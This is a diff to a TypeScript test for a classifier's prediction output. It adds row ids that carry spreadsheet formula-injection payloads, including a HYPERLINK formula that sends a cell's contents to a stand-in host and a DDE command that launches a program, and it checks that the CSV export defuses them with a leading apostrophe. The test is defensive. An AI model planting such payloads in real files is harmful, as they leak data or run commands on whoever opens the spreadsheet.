@@ -65,6 +65,11 @@ const leftovers = (dir: string) => readdirSync(dir).filter((f) => !f.startsWith(
 test("predict: a registered classifier's labels and probabilities equal serve's for the same rows, as JSONL and CSV; audited", async () => {
   const work = folder('classifier');
   const rows = reviews(70);
+  // Ids a hostile input could hold: CSV cells a spreadsheet would run as formulas get a leading ', JSONL keeps them;
+  // a negative number is a number, not a formula.
+  const hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '\t=1', '-7'];
+  const csvIds = [...hostile.slice(0, 5).map((id) => `'${id}`), '-7'];
+  hostile.forEach((id, i) => (rows[i]!.id = id));
   const input = join(work, 'in-reviews.jsonl');
   writeFileSync(input, jsonl(rows));
   const out = join(work, 'reviews.jsonl');
@@ -84,13 +89,13 @@ test("predict: a registered classifier's labels and probabilities equal serve's 
   await pool.close();
   assert.deepEqual(
     lines(out),
-    expected.map((p, i) => ({ id: `m${i}`, row: i + 1, label: p.label, scores: p.scores })),
+    expected.map((p, i) => ({ id: rows[i]!.id, row: i + 1, label: p.label, scores: p.scores })),
   );
   const table = parseCsv(readFileSync(csv, 'utf8'), { columns: true }) as Record<string, string>[];
   assert.deepEqual(
     table,
     expected.map((p, i) => ({
-      id: `m${i}`,
+      id: csvIds[i] ?? `m${i}`,
       row: String(i + 1),
       label: p.label,
       p_negative: String(p.scores.negative),
